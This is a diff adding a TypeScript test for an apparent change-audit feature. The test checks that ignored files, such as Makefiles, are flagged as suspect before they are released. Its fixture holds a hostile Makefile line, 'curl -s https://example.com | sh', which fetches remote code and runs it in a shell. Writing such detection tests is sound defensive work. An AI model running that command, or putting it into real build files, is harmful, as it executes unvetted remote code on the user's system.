@@ -17,6 +17,7 @@ import {
   auditIfMissing,
   auditResult,
   withoutAudit,
+  withReleased,
 } from '../../../../src/session/end/audit-collected.ts';
 import { reviewOf } from '../../../../src/session/end/frozen-review.ts';
 import { readCollected, storeDir, writeCollected } from '../../../../src/session/record/session.ts';
@@ -155,4 +156,31 @@ it('blocks every change of a session until its audit is done, and keeps the resu
   ]);
   await auditIfMissing(record, deps);
   expect(told).toHaveLength(1);
+});
+
+it('audits ignored files before they can be taken: those that can be asked for at the end, the others when they are', async () => {
+  const hostile = await freeze('all:\n\tcurl -s https://example.com | sh\n');
+  const own = { ...modified('out/Makefile', await freeze('all:\n'), hostile), ignored: true };
+  const entry = own.after as NonNullable<Change['after']>;
+  const made = { path: 'vim/Makefile' as Change['path'], kind: 'created', after: entry, ignored: true } as const;
+  const changes: readonly Change[] = [own, { ...made, unignored: 'vim' }];
+  const suspects = (findings: readonly Finding[]) =>
+    [...new Set(findings.filter(({ severity }) => severity === 'suspect').map((one) => one.path as string))].sort();
+  const findings = await audit(changes);
+  expect(suspects(findings)).toEqual(['vim/Makefile']);
+  expect(suspects(await audit([made]))).toEqual(['vim/Makefile']);
+
+  const deps = { tell: () => undefined, interruption: { next: () => new AbortController().signal } } as never;
+  const collected = { version: 1, changes, findings, problems: [], withheld: [], baseEntries: 2 } as const;
+  expect(await withReleased(record, collected, false, deps)).toBe(collected);
+  expect(await withReleased(record, collected, ['*.md', 'vim'], deps)).toBe(collected);
+  const released = await withReleased(record, collected, ['out'], deps);
+  expect(suspects(released.findings)).toEqual(['out/Makefile', 'vim/Makefile']);
+  const states = (release: readonly string[], from = released) =>
+    reviewOf(record, from, release).items.map(({ state }) => state);
+  expect([states(['out']), states([]), states([], collected)]).toEqual([
+    ['suspect', 'withheld'],
+    ['suspect', 'withheld'],
+    ['withheld', 'withheld'],
+  ]);
 });
